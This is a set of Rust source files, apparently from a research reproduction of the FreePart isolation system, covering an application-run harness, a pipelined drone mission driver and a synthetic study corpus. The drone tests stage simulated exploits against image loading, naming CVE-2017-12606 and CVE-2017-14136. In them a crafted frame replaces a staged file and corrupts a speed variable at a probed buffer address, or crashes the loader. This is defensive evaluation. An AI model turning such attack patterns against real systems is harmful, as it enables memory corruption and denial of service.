/// Runs an application to completion under `surface`.
///
/// # Errors
///
/// Propagates the first [`CallError`] — the driver constructs valid
/// arguments, so failures indicate containment events (crashes) or
/// harness bugs, never expected behaviour.
pub fn run_app(
    app: &ResolvedApp,
    reg: &ApiRegistry,
    surface: &mut dyn ApiSurface,
    opts: &RunOptions,
) -> Result<RunReport, CallError> {
    let mut report = RunReport::default();
    let mut flow = Flow::default();
    let mut seeds = Seeds {
        prefix: format!("/apps/{}", app.spec.id),
        counter: 0,
    };

    // ---- setup: devices, critical data, protection ----
    let needs_camera = app.spec.uses_camera
        || app
            .schedules
            .values()
            .flat_map(|s| &s.calls)
            .any(|(id, _)| {
                matches!(
                    reg.spec(*id).kind,
                    ApiKind::VideoCaptureNew | ApiKind::VideoCaptureRead
                )
            });
    if needs_camera && surface.kernel().camera.is_none() {
        surface.kernel_mut().camera = Some(Camera::new(app.spec.id as u64, CAMERA_FRAME_LEN));
    }
    let critical = surface.host_data(
        &format!("critical:{}", app.spec.name),
        format!("config-and-results-of-{}", app.spec.name).as_bytes(),
    );
    report.critical = Some(critical);
    surface.finish_setup();

    // ---- build the round-by-round quota table ----
    let loading = &app.schedules[&ApiType::DataLoading];
    let rounds = {
        let unique = loading.unique().max(1) as u32;
        loading.total().div_ceil(unique)
    }
    .max(1);
    let order = [
        ApiType::DataLoading,
        ApiType::DataProcessing,
        ApiType::Visualizing,
        ApiType::Storing,
    ];

    for round in 0..rounds {
        for t in order {
            let sched = &app.schedules[&t];
            for (api, total) in sched.calls.clone() {
                // Bresenham distribution of `total` calls over `rounds`.
                let before = (total as u64 * round as u64 / rounds as u64) as u32;
                let after = (total as u64 * (round as u64 + 1) / rounds as u64) as u32;
                for _ in before..after {
                    one_call(api, reg, surface, opts, &mut flow, &mut seeds)?;
                    report.calls += 1;
                }
            }
        }
        // Host application logic between rounds.
        let host = surface.host_pid();
        surface
            .kernel_mut()
            .charge_compute(host, opts.host_work_per_round);
        // Periodic host dereference of results + critical data.
        if opts.fetch_every > 0 && round % opts.fetch_every == opts.fetch_every - 1 {
            if surface.fetch_bytes(critical).is_ok() {
                report.host_fetches += 1;
            }
            if let Some(Value::Obj(id)) = flow.img {
                if surface.fetch_bytes(id).is_ok() {
                    report.host_fetches += 1;
                }
            }
        }
        report.rounds += 1;
    }
    Ok(report)
}

/// Ensures an image object exists in the flow, creating one directly if
/// no loading API has produced one yet.
fn ensure_img(surface: &mut dyn ApiSurface, opts: &RunOptions, flow: &mut Flow) -> Value {
    if let Some(v) = &flow.img {
        return v.clone();
    }
    let img = seeded_image(opts.image_side, 999);
    let id = surface.create_object(
        ObjectKind::Mat {
            w: img.w,
            h: img.h,
            ch: img.ch,
        },
        "driver:img",
        &img.data,
    );
    let v = Value::Obj(id);
    flow.img = Some(v.clone());
    v
}

fn ensure_tensor(surface: &mut dyn ApiSurface, opts: &RunOptions, flow: &mut Flow) -> Value {
    if let Some(v) = &flow.tensor {
        return v.clone();
    }
    let t = Tensor::generate(&[opts.tensor_len], |i| (i as f32 * 0.2).sin());
    let id = surface.create_object(
        ObjectKind::Tensor {
            shape: t.shape.clone(),
        },
        "driver:tensor",
        &t.to_bytes(),
    );
    let v = Value::Obj(id);
    flow.tensor = Some(v.clone());
    v
}

fn ensure_model(surface: &mut dyn ApiSurface, opts: &RunOptions, flow: &mut Flow) -> Value {
    if let Some(v) = &flow.model {
        return v.clone();
    }
    let t = Tensor::generate(&[opts.tensor_len], |i| (i as f32 * 0.1).cos());
    let id = surface.create_object(
        ObjectKind::Tensor {
            shape: t.shape.clone(),
        },
        "driver:model",
        &t.to_bytes(),
    );
    let v = Value::Obj(id);
    flow.model = Some(v.clone());
    v
}

fn ensure_blob(surface: &mut dyn ApiSurface, flow: &mut Flow) -> Value {
    if let Some(v) = &flow.figure {
        return v.clone();
    }
    let id = surface.create_object(ObjectKind::Blob, "driver:blob", &[3u8; 64]);
    let v = Value::Obj(id);
    flow.figure = Some(v.clone());
    v
}

/// Executes one scheduled API call, threading the flow state.
fn one_call(
    api: ApiId,
    reg: &ApiRegistry,
    surface: &mut dyn ApiSurface,
    opts: &RunOptions,
    flow: &mut Flow,
    seeds: &mut Seeds,
) -> Result<(), CallError> {
    let spec = reg.spec(api);
    let name = spec.name.clone();
    use ApiKind as K;
    let result = match spec.kind {
        K::ImRead => {
            let path = seeds.next_path("img");
            let img = seeded_image(opts.image_side, seeds.counter);
            surface
                .kernel_mut()
                .fs
                .put(&path, fileio::encode_image(&img, None));
            surface.call(&name, &[Value::Str(path)])?
        }
        K::ClassifierLoad => {
            let path = seeds.next_path("cascade");
            surface.kernel_mut().fs.put(&path, vec![7u8; 128]);
            surface.call(&name, &[Value::Str(path)])?
        }
        K::TensorLoad => {
            let path = seeds.next_path("model");
            let t = Tensor::generate(&[opts.tensor_len], |i| i as f32 * 0.01);
            surface
                .kernel_mut()
                .fs
                .put(&path, fileio::encode_tensor(&t, None));
            surface.call(&name, &[Value::Str(path)])?
        }
        K::ReadCsv => {
            let path = seeds.next_path("table");
            surface
                .kernel_mut()
                .fs
                .put(&path, fileio::encode_csv(&[vec![1.0, 2.0], vec![3.0, 4.0]]));
            surface.call(&name, &[Value::Str(path)])?
        }
        K::JsonLoad => {
            let path = seeds.next_path("json");
            surface.kernel_mut().fs.put(&path, b"{\"cfg\": 1}".to_vec());
            surface.call(&name, &[Value::Str(path)])?
        }
        K::DatasetLoad => {
            let dir = format!("{}/ds-{}/", seeds.prefix, seeds.counter);
            seeds.counter += 1;
            for i in 0..2 {
                let img = seeded_image(8, i);
                surface
                    .kernel_mut()
                    .fs
                    .put(&format!("{dir}{i}.simg"), fileio::encode_image(&img, None));
            }
            surface.call(&name, &[Value::Str(dir)])?
        }
        K::DownloadViaFile => {
            let url = format!("http://weights/{}", seeds.counter);
            seeds.counter += 1;
            surface.call(&name, &[Value::Str(url)])?
        }
        K::VideoCaptureNew => surface.call(&name, &[Value::I64(0)])?,
        K::VideoCaptureRead => {
            let cap = match &flow.capture {
                Some(c) => c.clone(),
                None => {
                    // A capture handle must exist; open one off-schedule
                    // only if the app never scheduled the constructor.
                    let c = surface.call("cv2.VideoCapture", &[Value::I64(0)])?;
                    flow.capture = Some(c.clone());
                    c
                }
            };
            surface.call(&name, &[cap])?
        }
        K::Filter(_) | K::FindContours | K::Reduce => {
            let img = ensure_img(surface, opts, flow);
            surface.call(&name, &[img])?
        }
        K::Binary(_) => {
            let img = ensure_img(surface, opts, flow);
            surface.call(&name, &[img.clone(), img])?
        }
        K::Resize => {
            let img = ensure_img(surface, opts, flow);
            surface.call(
                &name,
                &[
                    img,
                    Value::I64(opts.image_side as i64),
                    Value::I64(opts.image_side as i64),
                ],
            )?
        }
        K::Crop => {
            let img = ensure_img(surface, opts, flow);
            surface.call(
                &name,
                &[
                    img,
                    Value::I64(0),
                    Value::I64(0),
                    Value::I64(opts.image_side as i64),
                    Value::I64(opts.image_side as i64),
                ],
            )?
        }
        K::DrawRect => {
            let img = ensure_img(surface, opts, flow);
            surface.call(
                &name,
                &[
                    img,
                    Value::I64(2),
                    Value::I64(2),
                    Value::I64(9),
                    Value::I64(9),
                ],
            )?
        }
        K::PutText => {
            let img = ensure_img(surface, opts, flow);
            surface.call(
                &name,
                &[img, Value::from("ok"), Value::I64(1), Value::I64(1)],
            )?
        }
        K::DetectMultiScale => {
            let clf = match &flow.clf {
                Some(c) => c.clone(),
                None => {
                    let id = surface.create_object(
                        ObjectKind::Classifier { stages: 8 },
                        "driver:clf",
                        &[2u8; 64],
                    );
                    let v = Value::Obj(id);
                    flow.clf = Some(v.clone());
                    v
                }
            };
            let img = ensure_img(surface, opts, flow);
            surface.call(&name, &[clf, img])?
        }
        K::TensorUnary(_)
        | K::TensorConv
        | K::TensorPoolMax
        | K::TensorPoolAvg
        | K::TensorMatmul => {
            let t = ensure_tensor(surface, opts, flow);
            surface.call(&name, &[t])?
        }
        K::TensorNew => surface.call(&name, &[Value::I64(opts.tensor_len as i64)])?,
        K::Forward => {
            let m = ensure_model(surface, opts, flow);
            let t = ensure_tensor(surface, opts, flow);
            surface.call(&name, &[m, t])?
        }
        K::TrainStep => {
            let m = ensure_model(surface, opts, flow);
            surface.call(&name, &[m.clone(), m, Value::F64(1.0)])?
        }
        K::ImShow => {
            let img = ensure_img(surface, opts, flow);
            surface.call(&name, &[Value::from("preview"), img])?
        }
        K::PlotShow => {
            let b = ensure_blob(surface, flow);
            surface.call(&name, &[b])?
        }
        K::PlotAdd => surface.call(
            &name,
            &[Value::List(vec![
                Value::F64(1.0),
                Value::F64(2.0),
                Value::F64(3.0),
            ])],
        )?,
        K::Window(WindowOp::Named) => surface.call(&name, &[Value::from("preview")])?,
        K::Window(_) | K::GuiStateRead => surface.call(&name, &[])?,
        K::ImWrite | K::VideoWriterWrite => {
            let img = ensure_img(surface, opts, flow);
            let path = seeds.next_path("out");
            surface.call(&name, &[Value::Str(path), img])?
        }
        K::TensorSave => {
            let t = ensure_tensor(surface, opts, flow);
            let path = seeds.next_path("weights");
            surface.call(&name, &[Value::Str(path), t])?
        }
        K::WriteCsv | K::JsonDump | K::PlotSavefig => {
            let obj = match spec.kind {
                K::WriteCsv => flow
                    .table
                    .clone()
                    .unwrap_or_else(|| ensure_blob(surface, flow)),
                _ => ensure_blob(surface, flow),
            };
            let path = seeds.next_path("report");
            surface.call(&name, &[Value::Str(path), obj])?
        }
        K::SummaryWrite => {
            let path = format!("{}/log.txt", seeds.prefix);
            surface.call(&name, &[Value::Str(path), Value::from("step ok")])?
        }
        K::AllocUtil => surface.call(&name, &[Value::I64(128)])?,
    };
    // Thread results back into the flow.
    if let Value::Obj(id) = result {
        match surface.objects().meta(id).map(|m| m.kind.clone()) {
            Some(ObjectKind::Mat { .. }) => flow.img = Some(result),
            Some(ObjectKind::Tensor { .. }) | Some(ObjectKind::Model { .. }) => {
                flow.tensor = Some(result)
            }
            Some(ObjectKind::Capture { .. }) => flow.capture = Some(result),
            Some(ObjectKind::Classifier { .. }) => flow.clf = Some(result),
            Some(ObjectKind::Table { .. }) => flow.table = Some(result),
            Some(ObjectKind::Blob) => flow.figure = Some(result),
            _ => {}
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::spec::{by_id, resolve, TABLE6};
    use freepart::{Policy, Runtime};
    use freepart_baselines::MonolithicRuntime;
    use freepart_frameworks::registry::standard_registry;
    use std::collections::BTreeMap;

    #[test]
    fn omr_runs_with_exact_table6_counts_under_freepart() {
        let reg = standard_registry();
        let app = resolve(by_id(8).unwrap(), &reg);
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let report = run_app(&app, &reg, &mut rt, &RunOptions::default()).unwrap();
        // Count calls by type from the runtime's call log.
        let mut by_type: BTreeMap<ApiType, (std::collections::BTreeSet<ApiId>, u32)> =
            BTreeMap::new();
        for &api in rt.call_log() {
            let t = reg.spec(api).declared_type;
            let e = by_type.entry(t).or_default();
            e.0.insert(api);
            e.1 += 1;
        }
        let spec = app.spec;
        assert_eq!(by_type[&ApiType::DataLoading].1, spec.loading.1);
        assert_eq!(by_type[&ApiType::DataProcessing].1, spec.processing.1);
        assert_eq!(by_type[&ApiType::Visualizing].1, spec.visualizing.1);
        assert_eq!(by_type[&ApiType::Storing].1, spec.storing.1);
        assert_eq!(
            by_type[&ApiType::DataProcessing].0.len(),
            spec.processing.0 as usize
        );
        assert!(report.calls > 0 && report.rounds > 0);
    }

    #[test]
    fn all_23_apps_run_to_completion_monolithic() {
        let reg = standard_registry();
        for spec in TABLE6 {
            let app = resolve(spec, &reg);
            let mut rt = MonolithicRuntime::original(standard_registry());
            let expected: u64 = app.schedules.values().map(|s| s.total() as u64).sum();
            let report = run_app(&app, &reg, &mut rt, &RunOptions::default())
                .unwrap_or_else(|e| panic!("{} failed: {e}", spec.name));
            assert_eq!(report.calls, expected, "{}", spec.name);
        }
    }

    #[test]
    fn camera_apps_get_frames() {
        let reg = standard_registry();
        let app = resolve(by_id(5).unwrap(), &reg); // EyeLike
        let mut rt = MonolithicRuntime::original(standard_registry());
        run_app(&app, &reg, &mut rt, &RunOptions::default()).unwrap();
        assert!(rt.kernel.camera.as_ref().unwrap().frames_served() > 0);
    }

    #[test]
    fn apps_with_viz_touch_the_display() {
        let reg = standard_registry();
        let app = resolve(by_id(1).unwrap(), &reg); // Face_classification
        let mut rt = MonolithicRuntime::original(standard_registry());
        run_app(&app, &reg, &mut rt, &RunOptions::default()).unwrap();
        assert!(rt.kernel.display.is_connected());
    }

    #[test]
    fn storing_apps_write_files() {
        let reg = standard_registry();
        let app = resolve(by_id(8).unwrap(), &reg);
        let mut rt = MonolithicRuntime::original(standard_registry());
        run_app(&app, &reg, &mut rt, &RunOptions::default()).unwrap();
        assert!(!rt.kernel.fs.list("/apps/8/").is_empty());
    }
}
