//! Pipelined drone driver: the asynchronous hooked-call interface on
//! per-process virtual timelines.
//!
//! The synchronous drone mission ([`crate::drone::run`]) serializes
//! camera → store → load → detect per frame even though the four stages
//! run in *different agent processes*. This driver splits the mission
//! across three application threads — **L** (camera read + `imread`,
//! data loading), **S** (`imwrite`, storing), **P** (`cvtColor` +
//! `findContours`, processing) — and submits each stage with
//! [`Runtime::call_async_with`], so frame `i+1`'s loading overlaps frame
//! `i`'s detection. Dependencies are explicit where the object table
//! cannot see them (`imread` reads the file `imwrite` staged) and
//! implicit everywhere else (object-table hazards: the capture handle
//! serializes camera reads; the image object orders `cvtColor` after its
//! `imread`).
//!
//! Steering is done with a one-frame lag: frame `i`'s command is issued
//! while frame `i+1` is in flight, off [`Runtime::wait`], which merges
//! the host timeline past the detection's completion. Results are
//! byte-identical to the synchronous mission — calls still execute in
//! submission order — only the virtual-time accounting overlaps, so the
//! makespan drops to the bottleneck stage instead of the stage sum.

use crate::drone::{DroneConfig, DroneResult};
use freepart::{CallError, CallHandle, Runtime};
use freepart_frameworks::{ObjectId, Value};
use freepart_simos::device::Camera;

/// Issues frame `i`'s steering command from its detection handle.
fn steer(rt: &mut Runtime, speed: ObjectId, h: CallHandle, result: &mut DroneResult) {
    match rt.wait(h) {
        Ok(hits) => {
            let direction = match hits {
                Value::Rects(r) => r.len() as f64,
                _ => 0.0,
            };
            let bytes = rt.fetch_bytes(speed).unwrap_or_default();
            let speed_now = bytes
                .get(..8)
                .map(|b| f64::from_le_bytes([b[0], b[1], b[2], b[3], b[4], b[5], b[6], b[7]]))
                .unwrap_or(0.0);
            result.commands.push(speed_now * direction.max(0.2));
            result.frames_processed += 1;
        }
        Err(_) => result.frames_lost += 1,
    }
}

/// Flies the drone mission with pipelined asynchronous calls. Same
/// inputs, same commands, same attack outcomes as [`crate::drone::run`]
/// under FreePart — read the pipelined makespan off
/// [`freepart_simos::Kernel::makespan_ns`].
pub fn run_drone_pipelined(rt: &mut Runtime, cfg: &DroneConfig) -> DroneResult {
    if rt.kernel.camera.is_none() {
        rt.kernel.camera = Some(Camera::new(77, freepart_frameworks::exec::CAMERA_FRAME_LEN));
    }
    let speed_original = 0.3f64.to_le_bytes().to_vec();
    let speed = rt.host_data("self.speed", &speed_original);

    // One thread per pipeline stage, each with its own agent set and
    // framework-state machine, so each thread takes exactly one state
    // transition for the whole mission — no barrier drains in steady
    // state.
    let loader = freepart::ThreadId::MAIN;
    let storer = rt.spawn_thread();
    let procer = rt.spawn_thread();
    rt.enable_pipelining();

    let mut result = DroneResult {
        speed,
        speed_original,
        frames_processed: 0,
        frames_lost: 0,
        control_loop_alive: true,
        commands: Vec::new(),
    };

    let capture = match rt.call_on(loader, "cv2.VideoCapture", &[Value::I64(0)]) {
        Ok(c) => c,
        Err(_) => {
            result.control_loop_alive = rt.kernel.is_running(rt.host_pid());
            return result;
        }
    };

    // Detection handle of the previous frame: steered with a one-frame
    // lag so the next frame's stages submit first.
    let mut pending: Option<CallHandle> = None;

    for frame_idx in 0..cfg.frames {
        rt.trace_mark(&format!("drone:frame {frame_idx}"));
        let staged = format!("/drone/frame-{frame_idx}.simg");
        // 1. Grab a frame (L) and stage it to disk (S). The store
        //    depends on the read; the capture-object hazard serializes
        //    successive camera reads.
        let write_h = (|| -> Result<CallHandle, CallError> {
            let h_read = rt.call_async_on(
                loader,
                "cv2.VideoCapture.read",
                std::slice::from_ref(&capture),
            )?;
            let frame = rt.promise(h_read)?;
            let h_write = rt.call_async_with(
                storer,
                "cv2.imwrite",
                &[Value::Str(staged.clone()), frame],
                &[h_read],
            )?;
            rt.promise(h_write)?;
            Ok(h_write)
        })();
        let write_h = match write_h {
            Ok(h) => h,
            Err(_) => {
                result.frames_lost += 1;
                continue;
            }
        };
        // An attacker on the image path swaps in a crafted file.
        if let Some((at, payload)) = &cfg.evil_frame {
            if *at == frame_idx {
                let img = freepart_frameworks::image::Image::new(16, 16, 3);
                rt.kernel.fs.put(
                    &staged,
                    freepart_frameworks::fileio::encode_image(&img, Some(payload)),
                );
            }
        }
        // 2. Load (L) + detect (P). The load's file dependency on the
        //    store is invisible to the object table — declared
        //    explicitly via `deps`.
        let detect_h = (|| -> Result<CallHandle, CallError> {
            let h_img = rt.call_async_with(
                loader,
                "cv2.imread",
                &[Value::Str(staged.clone())],
                &[write_h],
            )?;
            let img = rt.promise(h_img)?;
            let h_gray = rt.call_async_on(procer, "cv2.cvtColor", &[img])?;
            let gray = rt.promise(h_gray)?;
            let h_hits = rt.call_async_on(procer, "cv2.findContours", &[gray])?;
            rt.promise(h_hits)?;
            Ok(h_hits)
        })();
        // 3. Control with a one-frame lag: steer frame i-1 while frame
        //    i's stages are in flight.
        if let Some(h) = pending.take() {
            steer(rt, speed, h, &mut result);
        }
        match detect_h {
            Ok(h) => pending = Some(h),
            Err(_) => result.frames_lost += 1,
        }
        if !rt.kernel.is_running(rt.host_pid()) {
            result.control_loop_alive = false;
            break;
        }
    }
    if let Some(h) = pending.take() {
        steer(rt, speed, h, &mut result);
    }
    rt.drain_inflight();
    result
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::drone;
    use freepart::{Policy, Runtime};
    use freepart_attacks::payloads;
    use freepart_frameworks::registry::standard_registry;

    fn benign(frames: u32) -> DroneConfig {
        DroneConfig {
            frames,
            evil_frame: None,
        }
    }

    #[test]
    fn pipelined_mission_issues_the_same_commands_as_sync() {
        let mut sync_rt = Runtime::install(standard_registry(), Policy::freepart());
        let sync = drone::run(&mut sync_rt, &benign(8));
        let sync_ns = sync_rt.kernel.clock().now_ns();

        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let piped = run_drone_pipelined(&mut rt, &benign(8));

        assert_eq!(piped.frames_processed, 8);
        assert!(piped.control_loop_alive);
        assert_eq!(piped.commands, sync.commands, "byte-identical steering");
        assert_eq!(rt.in_flight(), 0, "mission ends fully drained");
        assert!(
            rt.kernel.makespan_ns() < sync_ns,
            "pipelined makespan {} should beat sequential {}",
            rt.kernel.makespan_ns(),
            sync_ns
        );
    }

    #[test]
    fn speed_corruption_verdict_is_unchanged_under_pipelining() {
        // Same probe as the sync drone test: host_data placement is
        // identical, so the attacker aims at the same buffer address.
        let addr = {
            let mut probe = Runtime::install(standard_registry(), Policy::freepart());
            let r = drone::run(&mut probe, &benign(0));
            probe.objects.meta(r.speed).unwrap().buffer.unwrap().0
        };
        let evil_speed = (-0.3f64).to_le_bytes().to_vec();
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let cfg = DroneConfig {
            frames: 4,
            evil_frame: Some((1, payloads::corrupt("CVE-2017-12606", addr.0, evil_speed))),
        };
        let r = run_drone_pipelined(&mut rt, &cfg);
        assert!(r.control_loop_alive);
        assert!(
            r.commands.iter().all(|c| *c > 0.0),
            "steering unaffected: {:?}",
            r.commands
        );
    }

    #[test]
    fn dos_attack_verdict_is_unchanged_under_pipelining() {
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let cfg = DroneConfig {
            frames: 5,
            evil_frame: Some((2, payloads::dos("CVE-2017-14136"))),
        };
        let r = run_drone_pipelined(&mut rt, &cfg);
        assert!(r.control_loop_alive, "control loop unaffected");
        assert_eq!(r.frames_processed, 4);
        assert_eq!(r.frames_lost, 1);
        assert!(r.commands.iter().all(|c| *c > 0.0));
    }

    #[test]
    fn shm_transport_issues_the_same_commands_as_ldc() {
        let mut ldc_rt = Runtime::install(standard_registry(), Policy::freepart());
        let ldc = run_drone_pipelined(&mut ldc_rt, &benign(8));

        let mut shm_rt = Runtime::install(standard_registry(), Policy::freepart_shm());
        let shm = run_drone_pipelined(&mut shm_rt, &benign(8));

        assert_eq!(shm.frames_processed, 8);
        assert!(shm.control_loop_alive);
        assert_eq!(shm.commands, ldc.commands, "byte-identical steering");
        // Camera frames clear the size threshold, so the mission really
        // rode the segment path.
        assert!(shm_rt.stats().shm_grants > 0, "shm transport engaged");
    }

    #[test]
    fn speed_corruption_verdict_is_unchanged_on_shm_transport() {
        // Probe under the same policy: the 8-byte speed variable sits
        // below the shm threshold and stays buffer-backed, so the
        // attacker aims at the same address either way.
        let addr = {
            let mut probe = Runtime::install(standard_registry(), Policy::freepart_shm());
            let r = drone::run(&mut probe, &benign(0));
            probe.objects.meta(r.speed).unwrap().buffer.unwrap().0
        };
        let evil_speed = (-0.3f64).to_le_bytes().to_vec();
        let mut rt = Runtime::install(standard_registry(), Policy::freepart_shm());
        let cfg = DroneConfig {
            frames: 4,
            evil_frame: Some((1, payloads::corrupt("CVE-2017-12606", addr.0, evil_speed))),
        };
        let r = run_drone_pipelined(&mut rt, &cfg);
        assert!(r.control_loop_alive);
        assert!(
            r.commands.iter().all(|c| *c > 0.0),
            "steering unaffected: {:?}",
            r.commands
        );
    }

    #[test]
    fn dos_attack_verdict_is_unchanged_on_shm_transport() {
        let mut rt = Runtime::install(standard_registry(), Policy::freepart_shm());
        let cfg = DroneConfig {
            frames: 5,
            evil_frame: Some((2, payloads::dos("CVE-2017-14136"))),
        };
        let r = run_drone_pipelined(&mut rt, &cfg);
        assert!(r.control_loop_alive, "control loop unaffected");
        assert_eq!(r.frames_processed, 4);
        assert_eq!(r.frames_lost, 1);
        assert!(r.commands.iter().all(|c| *c > 0.0));
    }
}
