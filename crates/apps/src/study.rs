//! The 56-application study corpus (paper §4.1, Study 1 + Table 3).
//!
//! The paper manually surveyed 56 popular GitHub programs to establish
//! (a) that data-processing applications follow the load → process →
//! visualize/store pipeline (Fig. 6) and (b) how many *vulnerable* APIs
//! each application actually uses (Table 3). This module synthesizes a
//! comparable corpus: 56 sketches over the standard catalog, generated
//! deterministically, with framework mixes and vulnerable-API usage
//! rates shaped like the survey's population.

use freepart_frameworks::api::{ApiId, ApiRegistry, ApiType, Framework};
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};

/// One surveyed application sketch: which APIs it calls, in order.
#[derive(Debug, Clone)]
pub struct StudySketch {
    /// Synthetic project name.
    pub name: String,
    /// Main framework.
    pub main: Framework,
    /// API call order (pipeline-shaped).
    pub calls: Vec<ApiId>,
}

impl StudySketch {
    /// APIs of one type used by this sketch.
    pub fn of_type(&self, reg: &ApiRegistry, t: ApiType) -> Vec<ApiId> {
        let mut v: Vec<ApiId> = self
            .calls
            .iter()
            .copied()
            .filter(|id| reg.spec(*id).declared_type == t)
            .collect();
        v.sort();
        v.dedup();
        v
    }

    /// Vulnerable APIs of one framework and type used by this sketch.
    pub fn vulnerable_of(&self, reg: &ApiRegistry, fw: Framework, t: ApiType) -> Vec<ApiId> {
        let mut v: Vec<ApiId> = self
            .calls
            .iter()
            .copied()
            .filter(|id| {
                let s = reg.spec(*id);
                s.framework == fw && s.declared_type == t && !s.vulns.is_empty()
            })
            .collect();
        v.sort();
        v.dedup();
        v
    }

    /// True when the call order never regresses in the pipeline
    /// (loading ≤ processing ≤ visualizing/storing), allowing repeated
    /// load→process cycles (video apps) — the Study 1 property.
    pub fn follows_pipeline(&self, reg: &ApiRegistry) -> bool {
        fn stage(t: ApiType) -> u8 {
            match t {
                ApiType::DataLoading => 0,
                ApiType::DataProcessing => 1,
                ApiType::Visualizing | ApiType::Storing => 2,
            }
        }
        let mut prev = 0u8;
        for id in &self.calls {
            let s = stage(reg.spec(*id).declared_type);
            if s < prev && !(s == 0 && prev >= 1) {
                // Regressions other than restarting a load cycle break
                // the pattern.
                return false;
            }
            prev = s;
        }
        true
    }
}

fn pool(reg: &ApiRegistry, fws: &[Framework], t: ApiType) -> Vec<ApiId> {
    reg.iter()
        .filter(|s| fws.contains(&s.framework) && s.declared_type == t)
        .map(|s| s.id)
        .collect()
}

/// Generates the 56-sketch corpus deterministically.
pub fn study_corpus(reg: &ApiRegistry) -> Vec<StudySketch> {
    let mut rng = StdRng::seed_from_u64(56);
    let mut out = Vec::new();
    // Framework population of the survey: CV-heavy, then the three ML
    // frameworks, plus Pillow/NumPy-flavoured utilities.
    let mixes: [(&str, Framework, &[Framework]); 5] = [
        (
            "vision",
            Framework::OpenCv,
            &[Framework::OpenCv, Framework::NumPy],
        ),
        (
            "torch",
            Framework::PyTorch,
            &[Framework::PyTorch, Framework::OpenCv, Framework::NumPy],
        ),
        (
            "tf",
            Framework::TensorFlow,
            &[Framework::TensorFlow, Framework::NumPy],
        ),
        (
            "caffe",
            Framework::Caffe,
            &[Framework::Caffe, Framework::OpenCv],
        ),
        (
            "imaging",
            Framework::Pillow,
            &[Framework::Pillow, Framework::NumPy, Framework::Matplotlib],
        ),
    ];
    for i in 0..56u32 {
        let (tag, main, fws) = mixes[(i % 5) as usize];
        let mut calls = Vec::new();
        let pick = |t: ApiType, n: usize, rng: &mut StdRng, calls: &mut Vec<ApiId>| {
            let mut p = pool(reg, fws, t);
            p.shuffle(rng);
            calls.extend(p.into_iter().take(n));
        };
        // Pipeline-shaped call order; video-style apps repeat the
        // load/process cycle.
        let cycles = if i % 7 == 0 { 2 } else { 1 };
        for _ in 0..cycles {
            pick(
                ApiType::DataLoading,
                rng.gen_range(1..=3),
                &mut rng,
                &mut calls,
            );
            pick(
                ApiType::DataProcessing,
                rng.gen_range(3..=12),
                &mut rng,
                &mut calls,
            );
        }
        if rng.gen_bool(0.55) {
            pick(
                ApiType::Visualizing,
                rng.gen_range(1..=3),
                &mut rng,
                &mut calls,
            );
        }
        pick(ApiType::Storing, rng.gen_range(1..=2), &mut rng, &mut calls);
        out.push(StudySketch {
            name: format!("{tag}-app-{i:02}"),
            main,
            calls,
        });
    }
    out
}

/// One Table 3 row: vulnerable-API usage for a framework/type pair.
#[derive(Debug, Clone, PartialEq)]
pub struct Table3Cell {
    /// Average vulnerable APIs per application.
    pub avg: f64,
    /// Maximum in a single application.
    pub max: usize,
    /// Total across all 56 applications.
    pub total: usize,
}

/// Computes the Table 3 matrix from the corpus.
pub fn table3(reg: &ApiRegistry, corpus: &[StudySketch], fw: Framework, t: ApiType) -> Table3Cell {
    let counts: Vec<usize> = corpus
        .iter()
        .map(|s| s.vulnerable_of(reg, fw, t).len())
        .collect();
    Table3Cell {
        avg: counts.iter().sum::<usize>() as f64 / corpus.len().max(1) as f64,
        max: counts.iter().copied().max().unwrap_or(0),
        total: counts.iter().sum(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::registry::standard_registry;

    #[test]
    fn corpus_has_56_pipeline_shaped_apps() {
        let reg = standard_registry();
        let corpus = study_corpus(&reg);
        assert_eq!(corpus.len(), 56);
        for s in &corpus {
            assert!(!s.calls.is_empty());
            assert!(s.follows_pipeline(&reg), "{} breaks the pipeline", s.name);
        }
    }

    #[test]
    fn corpus_is_deterministic() {
        let reg = standard_registry();
        let a = study_corpus(&reg);
        let b = study_corpus(&reg);
        assert_eq!(a[10].calls, b[10].calls);
    }

    #[test]
    fn vulnerable_usage_is_sparse_like_table3() {
        let reg = standard_registry();
        let corpus = study_corpus(&reg);
        // Each app uses only a handful of vulnerable APIs per type — the
        // paper's takeaway (loading/processing agents hold 2~3 on
        // average, never dozens).
        for fw in [
            Framework::OpenCv,
            Framework::TensorFlow,
            Framework::Pillow,
            Framework::NumPy,
        ] {
            for t in ApiType::ALL {
                let cell = table3(&reg, &corpus, fw, t);
                assert!(cell.avg < 4.0, "{fw} {t}: avg {}", cell.avg);
                assert!(cell.max <= 6, "{fw} {t}: max {}", cell.max);
            }
        }
        // And the loading/processing types dominate what exists at all.
        let cv_dl = table3(&reg, &corpus, Framework::OpenCv, ApiType::DataLoading);
        assert!(cv_dl.total > 0, "imread family shows up in the corpus");
    }

    #[test]
    fn sketches_mix_frameworks() {
        let reg = standard_registry();
        let corpus = study_corpus(&reg);
        let torch_apps = corpus
            .iter()
            .filter(|s| s.main == Framework::PyTorch)
            .count();
        assert!(torch_apps >= 10);
        // Secondary-framework usage exists (PyTorch apps calling OpenCV).
        let mixed = corpus.iter().any(|s| {
            s.main == Framework::PyTorch
                && s.calls
                    .iter()
                    .any(|id| reg.spec(*id).framework == Framework::OpenCv)
        });
        assert!(mixed);
    }
}
