//! The autonomous object-tracking drone case study (paper §5.4.1,
//! Fig. 14).
//!
//! The drone fetches frames from its camera, stores them to a staging
//! file, loads them with the vulnerable `imread`, runs the detector, and
//! computes a steering command from the detections and its `self.speed`
//! configuration variable. Two attacks: a DoS that would drop the drone
//! out of the sky, and a corruption that flips `self.speed` so the
//! drone flies *away* from the target.

use freepart::CallError;
use freepart_baselines::ApiSurface;
use freepart_frameworks::{ExploitPayload, ObjectId, Value};

/// Drone mission configuration.
#[derive(Debug, Clone, Default)]
pub struct DroneConfig {
    /// Frames to process.
    pub frames: u32,
    /// Crafted camera frame at this index, if attacking.
    pub evil_frame: Option<(u32, ExploitPayload)>,
}

/// Mission outcome.
#[derive(Debug)]
pub struct DroneResult {
    /// The `self.speed` configuration object.
    pub speed: ObjectId,
    /// Its pristine encoding (`0.3` little-endian f64).
